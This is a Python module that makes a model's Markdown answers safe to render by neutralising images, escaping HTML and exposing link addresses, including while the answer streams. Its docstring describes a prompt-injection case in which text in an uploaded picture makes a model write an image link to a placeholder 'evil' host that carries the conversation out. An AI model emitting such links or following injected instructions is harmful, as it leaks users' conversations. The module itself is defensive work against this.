"""Make model answers safe to render as Markdown.

Text inside an uploaded picture can make a model write ``![](https://evil/?q=<conversation>)``;
rendering that would load the image and leak the conversation. So answers are rendered with
images neutralised, raw HTML shown as text, and every link's address written out in full.
Code blocks and inline code are left exactly as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

_FENCE = re.compile(r"^\s{0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(?:.*?[^`])?\1(?!`)")
_IMAGE_START = re.compile(r"(?<!\\)!\[")
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
_LINK = re.compile(
    r"(?<![\\!])\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)"
)


def _neutralise(segment: str, *, show_links: bool) -> str:
    segment = _IMAGE_START.sub(r"!\\[", segment)
    segment = _HTML_START.sub("&lt;", segment)
    if show_links:
        segment = _LINK.sub(_link_with_address, segment)
    return segment


def _link_with_address(match: re.Match[str]) -> str:
    label, url = match.group(1).strip(), match.group(2)
    # The address itself becomes the link text (an explicit link: a bare URL would swallow the
    # punctuation after it).
    shown = f"[{url}]({url})"
    return shown if label in ("", url) else f"{label} ({shown})"


def _outside_code(line: str, *, show_links: bool) -> str:
    parts, last = [], 0
    for span in _CODE_SPAN.finditer(line):
        parts.append(_neutralise(line[last : span.start()], show_links=show_links))
        parts.append(span.group(0))
        last = span.end()
    parts.append(_neutralise(line[last:], show_links=show_links))
    return "".join(parts)


def _transform(text: str, *, show_links: bool, code_spans: bool) -> str:
    out: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        marker = _FENCE.match(line)
        if fence is not None:
            if marker and marker.group(1)[0] == fence[0] and len(marker.group(1)) >= len(fence):
                fence = None
            out.append(line)
        elif marker:
            fence = marker.group(1)
            out.append(line)
        elif code_spans:
            out.append(_outside_code(line, show_links=show_links))
        else:
            out.append(_neutralise(line, show_links=show_links))
    return "".join(out)


def safe_markdown(text: str) -> str:
    """Return ``text`` with images neutralised, HTML shown as text and link addresses shown."""
    return _transform(text, show_links=True, code_spans=True)


def _streaming_view(text: str) -> str:
    # Hold back a trailing "!" or "<": the next character decides whether it starts an image or
    # a tag. Code spans are ignored here so that every view extends the previous one.
    if text.endswith(("!", "<")):
        text = text[:-1]
    return _transform(text, show_links=False, code_spans=False)


def stream_safely(deltas: Iterable[str]) -> Iterator[str]:
    """Yield deltas whose running total is always safe to render (no image or HTML loads).

    The final answer is re-rendered with ``safe_markdown`` once complete; this only keeps the
    live view safe while it streams.
    """
    raw, shown = "", ""
    for delta in deltas:
        raw += delta
        view = _streaming_view(raw)
        if view.startswith(shown) and len(view) > len(shown):
            yield view[len(shown) :]
            shown = view
